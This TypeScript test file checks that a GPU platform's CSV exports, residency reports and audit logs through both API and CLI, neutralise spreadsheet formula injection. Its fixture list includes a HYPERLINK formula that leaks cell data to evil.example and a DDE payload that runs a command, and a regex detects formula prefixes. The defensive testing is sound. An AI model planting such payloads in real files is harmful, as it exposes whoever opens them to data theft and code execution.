/**
 * CSV formula injection: tenant-written text that a spreadsheet would evaluate (`=…`, `+…`, `-…`, `@…`,
 * a leading tab or CR) comes out of every CSV export as inert text — prefixed with a single quote —
 * through the API and the CLI, and the file still parses back to the same cells otherwise.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { toCsv } from '../../src/model/csv.js';
import { cliRunner } from '../helpers/cli.js';
import { residencyFleet, rtxJob } from '../helpers/residency.js';
import { api, startTestServer, type TestServer, waitFor } from '../helpers/server.js';
import { tenantToken } from '../helpers/tenants.js';

const FORMULAS = [
  '=1+2',
  '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+2',
  '\r=1+2',
];
const DANGEROUS = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

const cli = cliRunner('gigafab-csv-');
let server: TestServer;
let token: string;
const period = () => ({ from: new Date(Date.now() - 3600_000).toISOString(), to: new Date(Date.now() + 3600_000).toISOString() });

before(async () => {
  server = await startTestServer({ fleetPath: residencyFleet(), timeScale: 1 });
  const op = api(server.url, server.operatorToken);
  await op('POST', '/v1/orgs', { id: 'acme', name: 'Acme', kind: 'enterprise' });
  await op('POST', '/v1/orgs/acme/projects', { id: 'imaging' });
  await op('PUT', '/v1/projects/imaging/quotas/RTX', { gpus: 64 });
  token = await tenantToken(op, 'acme', { name: 'A', role: 'admin' });
  const admin = api(server.url, token);
  for (const name of FORMULAS) {
    const r = await admin('POST', '/v1/jobs', { ...rtxJob('imaging', name), gpusPerNode: 1 });
    assert.equal(r.status, 201, JSON.stringify(r.body));
  }
  await waitFor(
    async () => (await admin('GET', '/v1/jobs?state=running')).body.items.length === FORMULAS.length,
    'every job running',
  );
});

after(async () => {
  await server?.stop();
});

/** Every cell of every row: none may start with a character a spreadsheet treats as a formula. */
function assertInert(csv: string): string[][] {
  const rows = parse(csv, { relax_column_count: false }) as string[][];
  for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, DANGEROUS, `cell ${JSON.stringify(cell)}`);
  return rows;
}

function assertNamesQuoted(csv: string): void {
  const rows = assertInert(csv);
  const nameCol = rows[0]!.indexOf('jobName');
  assert.ok(nameCol >= 0, rows[0]!.join(','));
  const names = rows.slice(1).map((r) => r[nameCol]);
  assert.deepEqual(names.sort(), FORMULAS.map((f) => `'${f}`).sort());
}

test('the residency report CSV from the API neutralises formula prefixes in job names', async () => {
  const { from, to } = period();
  const r = await fetch(`${server.url}/v1/orgs/acme/residency-report?from=${from}&to=${to}&format=csv`, {
    headers: { authorization: `Bearer ${token}` },
  });
  assert.equal(r.status, 200);
  assertNamesQuoted(await r.text());
});

test('the residency report CSV from the CLI neutralises formula prefixes in job names', async () => {
  const { from, to } = period();
  const out = await cli.gigafab(['residency', 'report', '--org', 'acme', '--from', from, '--to', to, '--format', 'csv'], {
    GIGAFAB_URL: server.url,
    GIGAFAB_TOKEN: token,
  });
  assert.equal(out.code, 0, out.err);
  assertNamesQuoted(out.out);
});

test('the audit CSV export (API and CLI) is written by the same neutralising writer', async () => {
  const r = await fetch(`${server.url}/v1/audit/export?format=csv`, { headers: { authorization: `Bearer ${token}` } });
  assert.equal(r.status, 200);
  const rows = assertInert(await r.text());
  assert.deepEqual(rows[0]!.slice(0, 5), ['id', 'at', 'actor', 'org', 'action']);
  assert.ok(rows.length > FORMULAS.length);
  const out = await cli.gigafab(['audit', 'export', '--format', 'csv'], { GIGAFAB_URL: server.url, GIGAFAB_TOKEN: token });
  assert.equal(out.code, 0, out.err);
  assertInert(out.out);
});

test('toCsv: every formula prefix (and its full-width form) is quoted; ordinary text, numbers and quoting survive', () => {
  const cells = [...FORMULAS, '\uFF1D1+2', '\uFF0B1', '\uFF0D1', '\uFF20A1', 'plain', 'a,b', 'say "hi"', 'two\nlines'];
  const csv = toCsv(
    ['v'],
    cells.map((v) => ({ v })),
  );
  const parsed = (parse(csv) as string[][]).slice(1).map((r) => r[0]);
  assert.deepEqual(
    parsed,
    cells.map((c) => (DANGEROUS.test(c) ? `'${c}` : c)),
  );
  assert.equal(toCsv(['n', 'b', 'l'], [{ n: -3, b: true, l: ['x', 'y'] }]), 'n,b,l\r\n-3,true,x;y\r\n');
});
